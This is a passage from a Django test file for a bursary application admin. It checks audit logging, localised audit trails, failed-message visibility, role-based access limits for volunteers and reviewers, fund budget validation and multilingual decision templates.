    event = AuditEvent.objects.get(action="application.preview_message")
    assert event.actor == programme_staff
    assert event.object_id == str(application.pk)
    assert event.detail == {
        "outcome": "declined",
        "template": decision_templates["declined"].pk,
    }


def test_an_export_is_audited_with_what_was_exported(client, in_review, programme_staff):
    first, second = in_review(), in_review(email="o@example.org")
    client.force_login(programme_staff)
    bulk(client, "export_csv", [first, second])
    event = AuditEvent.objects.get(action="application.export")
    assert event.actor == programme_staff
    assert event.detail == {
        "count": 2,
        "references": sorted([first.reference, second.reference]),
    }


def test_staff_see_the_audit_trail_of_an_application_in_their_language(
    client, in_review, programme_staff, reviewer
):
    application = in_review()
    services.application_decide(
        application_id=application.pk,
        outcome=Application.Status.APPROVED,
        actor=programme_staff,
        amount_awarded=Decimal("120"),
        message="Yes",
    )
    client.force_login(programme_staff)
    with translation.override("uk"):
        page = client.get(change_url(application))
        labels = [
            translation.gettext("Sent the application"),
            translation.gettext("The applicant"),
            translation.gettext("Said they have no conflict of interest and opened it"),
            translation.gettext("Submitted a review recommending “%(recommendation)s”")
            % {"recommendation": translation.gettext("Yes")},
            translation.gettext("Put in review"),
            translation.gettext("Approved: %(amount)s") % {"amount": "£120.00"},
        ]
    html = page.content.decode()
    for label in labels:
        assert label in html, label
    assert "Sent the application" not in html
    for action in ["application.submit", "review.submit", "application.in_review"]:
        assert action not in html, action
    assert AuditEvent.objects.filter(actor=programme_staff, action="application.view").exists()

    client.force_login(reviewer)
    page = client.get(change_url(application))
    assert page.status_code == 200
    assert "Sent the application" not in page.content.decode()  # the trail is for staff


def test_every_bursary_action_in_the_audit_trail_has_a_label():
    from bursaries.admin.display import AUDIT_LABELS

    actions = {f"application.{status}" for status in Application.Status.values} - {
        "application.submitted"
    }
    actions |= {
        "application.submit",
        "application.view",
        "application.open",
        "application.conflict",
        "application.preview_message",
        "application.anonymise",
        "review.submit",
    }
    assert actions <= set(AUDIT_LABELS)


def test_a_failed_decision_message_is_visible_in_the_admin(
    client, in_review, programme_staff, django_capture_on_commit_callbacks
):
    application = in_review()
    services.application_decide(
        application_id=application.pk,
        outcome=Application.Status.DECLINED,
        actor=programme_staff,
        message="Sorry.",
    )
    OutgoingMessage.objects.filter(template="bursary_decision").update(
        status=OutgoingMessage.Status.FAILED, last_error="SMTPRecipientsRefused: 550 no such user"
    )
    client.force_login(programme_staff)
    html = client.get(CHANGELIST).content.decode()
    outbox = reverse("admin:sanctuary_outgoingmessage_changelist")
    assert f"{outbox}?q=bursary%3Aapplication%3A{application.pk}%3A" in html
    assert "Not sent" in html
    change = client.get(change_url(application)).content.decode()
    assert "550 no such user" in change
    found = client.get(outbox, {"q": f"bursary:application:{application.pk}:"})
    assert {m.template for m in found.context["cl"].result_list} == {
        "bursary_received",
        "bursary_decision",
    }


def test_applications_with_a_message_not_sent_can_be_listed_on_their_own(
    client, in_review, programme_staff
):
    failed, fine = in_review(), in_review(email="fine@example.org")
    for application in (failed, fine):
        services.application_decide(
            application_id=application.pk,
            outcome=Application.Status.DECLINED,
            actor=programme_staff,
            message="Sorry.",
        )
    OutgoingMessage.objects.filter(
        template="bursary_decision", dedupe_key__startswith=f"bursary:application:{failed.pk}:"
    ).update(status=OutgoingMessage.Status.FAILED)
    client.force_login(programme_staff)

    response = client.get(CHANGELIST, {"message_problem": "not_sent"})

    assert list(response.context["cl"].result_list) == [failed]
    assert "A message could not be sent" in response.content.decode()


# Who reaches what -------------------------------------------------------------------------------


def test_a_volunteer_cannot_reach_applications_anywhere(client, in_review, volunteer):
    application = in_review()
    client.force_login(volunteer)
    urls = [
        CHANGELIST,
        change_url(application),
        open_url(application),
        review_url(application),
        move_url(application, "approved"),
        reverse("admin:bursaries_application_conflict", args=[application.pk]),
        reverse("admin:bursaries_application_export"),
        reverse("admin:bursaries_review_changelist"),
        reverse("admin:bursaries_fund_changelist"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code in {302, 403}, url
        assert application.reference not in response.content.decode()
    response = bulk(client, "export_csv", [application])
    assert response.status_code in {302, 403}
    assert "text/csv" not in response.get("Content-Type", "")
    team = client.get(reverse("team_home")).content.decode()
    assert "/admin/" not in team
    for page in ["/en/bursaries/", "/en/"]:
        assert application.reference not in client.get(page).content.decode()


def test_reviewers_reach_applications_and_funds_but_set_nothing_up(client, reviewer, fund):
    client.force_login(reviewer)
    for name in ["application", "fund", "opportunity", "partnerorganisation", "review"]:
        url = reverse(f"admin:bursaries_{name}_changelist")
        assert client.get(url).status_code == 200, name
    for name in ["fund", "opportunity", "partnerorganisation", "decisiontemplate"]:
        assert client.get(reverse(f"admin:bursaries_{name}_add")).status_code == 403, name
    assert client.get(reverse("admin:bursaries_decisiontemplate_changelist")).status_code == 403
    response = client.post(
        reverse("admin:bursaries_fund_change", args=[fund.pk]),
        {"budget": "999999", "slug": fund.slug},
    )
    fund.refresh_from_db()
    assert fund.budget == Decimal("1000.00")
    assert response.status_code == 403


# Setting up -------------------------------------------------------------------------------------


def test_the_fund_page_in_the_admin_shows_budget_awarded_and_what_is_left(
    client, programme_staff, in_review, fund
):
    application = in_review()
    services.application_decide(
        application_id=application.pk,
        outcome=Application.Status.APPROVED,
        actor=programme_staff,
        amount_awarded=Decimal("250"),
        message="Yes",
    )
    in_review(email="o@example.org", amount_requested=Decimal("75"))
    client.force_login(programme_staff)
    html = client.get(reverse("admin:bursaries_fund_changelist")).content.decode()
    for figure in ["£1,000.00", "£250.00", "£750.00", "£75.00"]:
        assert figure in html
    change = client.get(reverse("admin:bursaries_fund_change", args=[fund.pk])).content.decode()
    assert "£750.00" in change


def fund_form(fund, **changes):
    data = {
        "slug": fund.slug,
        "budget": str(fund.budget),
        "opens_on": fund.opens_on.isoformat(),
        "closes_on": fund.closes_on.isoformat(),
    }
    for field in ("name", "description", "covers", "how_decided"):
        for code in ("en", "uk", "ar", "fa", "ps"):
            data[f"{field}_{code}"] = getattr(fund, f"{field}_{code}") or ""
    return {**data, **changes}


def test_staff_cannot_cut_a_budget_below_what_is_awarded(client, programme_staff, in_review, fund):
    application = in_review()
    services.application_decide(
        application_id=application.pk,
        outcome=Application.Status.APPROVED,
        actor=programme_staff,
        amount_awarded=Decimal("250"),
        message="Yes",
    )
    client.force_login(programme_staff)
    url = reverse("admin:bursaries_fund_change", args=[fund.pk])
    response = client.post(url, fund_form(fund, budget="200"))
    assert response.status_code == 200
    assert "This fund has already awarded £250.00." in response.content.decode()
    response = client.post(url, fund_form(fund, budget="2000", how_decided_fa="دو داور"))
    assert response.status_code == 302
    fund.refresh_from_db()
    assert fund.budget == Decimal("2000.00")
    assert fund.how_decided_fa == "دو داور"
    event = AuditEvent.objects.get(action="fund.update")
    assert event.detail["fields"] == ["budget", "how_decided_fa"]
    assert event.detail["changes"] == {
        "budget": {"old": "1000.00", "new": "2000.00"},
        "how_decided_fa": {"old": "", "new": "دو داور"},
    }


def test_staff_write_decision_templates_in_every_language(client, programme_staff):
    client.force_login(programme_staff)
    data = {"outcome": "declined", "name": "Decline", "position": "0", "is_active": "on"}
    for code in ("en", "uk", "ar", "fa", "ps"):
        data[f"body_{code}"] = f"{code}: {{name}}"
    response = client.post(reverse("admin:bursaries_decisiontemplate_add"), data)
    assert response.status_code == 302
    template = DecisionTemplate.objects.get()
    with translation.override("ps"):
        assert template.body == "ps: {name}"
    assert AuditEvent.objects.filter(action="decision_template.create").exists()
